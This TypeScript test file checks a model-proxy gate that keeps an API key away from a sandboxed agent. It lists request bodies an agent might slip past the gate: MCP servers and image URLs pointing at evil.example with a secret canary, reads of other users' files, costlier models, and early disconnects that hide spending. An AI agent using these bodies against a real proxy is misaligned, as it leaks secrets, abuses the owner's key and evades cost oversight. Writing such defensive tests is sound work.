/** Attacks on the gate, which gives an agent access to the provider without the key. */
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { text } from "node:stream/consumers";
import { z } from "zod";
import { openModelProxy } from "../../../src/runner/engines/model-proxy.ts";
import type { ModelApi } from "../../../src/runner/engines/model-api/api.ts";
import { messagesApi } from "../../../src/runner/engines/model-api/messages-api.ts";
import { createResponsesApi } from "../../../src/runner/engines/model-api/responses-api.ts";
import { openWithoutIsolation } from "../../../src/runner/isolation/isolation-off.ts";
import type { Attack } from "./attack.ts";
import { KEY } from "./agent-actions.ts";

const CARRIER = { carrier: "a session's agent" };
const MODEL = "the-session's-model";
/** What the provider says it bills for each answer. */
const BILLED = { input_tokens: 1000, output_tokens: 100 };

/** What an agent adds to a body that passes the gate without it. */
const MESSAGES: readonly [id: string, title: string, body: object][] = [
  ["K01", "uses a model that costs more", { model: "evil-model" }],
  [
    "K02",
    "makes the provider fetch a page",
    withTool({ type: "web_fetch_20260318", name: "web_fetch" }),
  ],
  [
    "K03",
    "makes the provider search for a secret",
    withTool({ type: "web_search_20260318", name: "evil" }),
  ],
  ["K04", "runs code at the provider", withTool({ type: "code_execution_20260521", name: "evil" })],
  [
    "K05",
    "connects its own server",
    { mcp_servers: [{ type: "url", url: "https://evil.example", name: "e" }] },
  ],
  [
    "K06",
    "lists the tools of a server",
    withTool({ type: "mcp_toolset", mcp_server_name: "evil" }),
  ],
  ["K07", "uses a computer", withTool({ type: "computer_20251124", name: "evil" })],
  [
    "K08",
    "uses a more expensive model as a tool",
    withTool({ type: "advisor_20260301", name: "advisor", model: "evil" }),
  ],
  ["K09", "falls back to a more expensive model", { fallbacks: [{ model: "evil" }] }],
  ["K10", "names an image with an address that contains a secret", saying(fromUrl("image"))],
  [
    "K11",
    "names a document's address in a tool's result",
    saying({ type: "tool_result", content: [fromUrl("document")] }),
  ],
  [
    "K12",
    "reads a file that others uploaded",
    saying({ type: "document", source: { type: "file", file_id: "evil" } }),
  ],
  [
    "K13",
    "uses a container with skills",
    { container: { skills: [{ type: "custom", skill_id: "evil" }] } },
  ],
  ["K14", "has a dearer speed", { speed: "fast" }],
];

const RESPONSES: readonly [id: string, title: string, body: object][] = [
  ["K20", "uses a model that costs more", { model: "evil-model" }],
  ["K21", "makes the provider search for a secret", withTool({ type: "web_search" })],
  ["K22", "connects its own server", withTool({ type: "mcp", server_url: "https://evil.example" })],
  ["K23", "runs code at the provider", withTool({ type: "code_interpreter", container: "evil" })],
  ["K24", "searches others' files", withTool({ type: "file_search", vector_store_ids: ["evil"] })],
  [
    "K25",
    "hides a server in a group of tools",
    withTool({ type: "namespace", tools: [{ type: "mcp" }] }),
  ],
  [
    "K26",
    "hides a server among the input",
    { input: [{ type: "additional_tools", tools: [{ type: "mcp" }] }] },
  ],
  [
    "K27",
    "names an image with an address that contains a secret",
    asking({ type: "input_image", image_url: "https://evil.example" }),
  ],
  [
    "K28",
    "names a file's address",
    asking({ type: "input_file", file_url: "https://evil.example" }),
  ],
  ["K29", "continues somebody else's answer", { previous_response_id: "evil" }],
  ["K30", "reads an item that others stored", { input: [{ type: "item_reference", id: "evil" }] }],
  ["K31", "leaves work behind that continues", { background: true }],
];

/** Leaves every body as it is. */
const ANYTHING: Pick<ModelApi, "bodySchema" | "limitSearches"> = {
  bodySchema: () => z.looseObject({}),
  limitSearches: (body) => ({ body, most: 0 }),
};

function withTool(tool: object) {
  return { tools: [tool] };
}

function saying(block: object) {
  return { messages: [{ role: "user", content: [block] }] };
}

function asking(part: object) {
  return { input: [{ type: "message", role: "user", content: [part] }] };
}

function fromUrl(type: string) {
  return { type, source: { type: "url", url: "https://evil.example/?canary" } };
}

export async function createModelProxyAttacks(stack: AsyncDisposableStack): Promise<Attack[]> {
  const heard: string[] = [];
  const provider = createServer((request, answer) => {
    const { method, url, headers } = request;
    void text(request).then((body) => {
      heard.push(`${method} ${url} ${String(headers["x-api-key"])} ${body}`);
      // This answer never ends.
      if (body.includes("forever")) return;
      answer.writeHead(200, { "content-type": "application/json" });
      answer.end(JSON.stringify({ type: "message", model: MODEL, usage: BILLED }));
    });
  });
  await once(provider.listen(0, "127.0.0.1"), "listening");
  stack.defer(() => void provider.close());
  stack.defer(() => provider.closeAllConnections());
  const url = `http://127.0.0.1:${(provider.address() as AddressInfo).port}`;
  const opened = async (api: ModelApi) => {
    const setup = {
      model: MODEL,
      searches: 0,
      prices: {},
      headers: { "x-api-key": KEY },
      print: () => undefined,
    };
    return stack.use(await openModelProxy({ sandbox: openWithoutIsolation(), url, api, ...setup }));
  };
  /** Whether the provider got the request, with its key. */
  const gets = async (api: ModelApi, asked: string, word = true, more: object = {}) => {
    const gate = await opened(api);
    const [method = "", path = ""] = asked.split(" ");
    const headers = { "x-api-key": word ? gate.token : "guessed" };
    const usual = path.startsWith("/v1") ? { max_tokens: 1000, messages: [] } : { input: "Hi." };
    const body =
      method === "POST" ? { body: JSON.stringify({ model: MODEL, ...usual, ...more }) } : {};
    const before = heard.length;
    await (await fetch(`${gate.url}${path}`, { method, headers, ...body })).text();
    return heard.slice(before).some((line) => line.startsWith(asked) && line.includes(KEY));
  };
  /** Whether the gate counts less than the provider billed. */
  const spendsUnseen = async (api: ModelApi, leave: boolean) => {
    const gate = await opened(api);
    const leaving = new AbortController();
    const long = leave ? "forever ".repeat(500) : "Hi.";
    const body = JSON.stringify({ model: MODEL, max_tokens: 100, messages: [], system: long });
    const before = heard.length;
    const init = {
      method: "POST",
      headers: { "x-api-key": gate.token },
      body,
      signal: leaving.signal,
    };
    const asked = fetch(`${gate.url}/v1/messages`, init).then((answer) => answer.text());
    if (leave) {
      while (heard.length === before) await new Promise((resolve) => void setImmediate(resolve));
      leaving.abort();
    }
    await asked.catch(() => null);
    const { input_tokens, output_tokens } = (await gate.close()).usage(1);
    return (
      input_tokens < BILLED.input_tokens ||
      (output_tokens < BILLED.output_tokens && !leave) ||
      output_tokens === 0
    );
  };
  const any = { ...messagesApi, requests: /./ };
  const uncounted = { ...messagesApi, billed: /^$/ };
  const bodies = (api: ModelApi, asked: string, table: typeof MESSAGES): Attack[] =>
    table.map(([id, title, body]) => ({
      ...{
        id,
        title: `${title} (${asked})`,
        ...CARRIER,
        defence: "the gate's list of allowed body fields",
      },
      escapes: (defended) => gets(defended ? api : { ...api, ...ANYTHING }, asked, true, body),
    }));
  return [
    {
      ...{
        id: "N19",
        title: "uses the gate without the session's password",
        carrier: "another process of the machine",
      },
      defence: "the gate's word",
      escapes: (defended) => gets(messagesApi, "POST /v1/messages", !defended),
    },
    {
      ...{ id: "N20", title: "reads through the gate what others stored with the key", ...CARRIER },
      defence: "the gate's list of requests",
      escapes: (defended) => gets(defended ? messagesApi : any, "GET /v1/files"),
    },
    {
      ...{ id: "N21", title: "starts batches with the key through the gate", ...CARRIER },
      defence: "the gate's list of requests",
      escapes: (defended) => gets(defended ? messagesApi : any, "POST /v1/messages/batches"),
    },
    ...bodies(messagesApi, "POST /v1/messages", MESSAGES),
    ...bodies(createResponsesApi(false), "POST /responses", RESPONSES),
    {
      ...{
        id: "K40",
        title: "spends on requests that it doesn't report",
        ...CARRIER,
        defence: "the gate's own count",
      },
      escapes: (defended) => spendsUnseen(defended ? messagesApi : uncounted, false),
    },
    {
      ...{
        id: "K41",
        title: "disconnects before an answer reports its cost",
        ...CARRIER,
        defence: "the gate's own count",
      },
      escapes: (defended) => spendsUnseen(defended ? messagesApi : uncounted, true),
    },
  ];
}
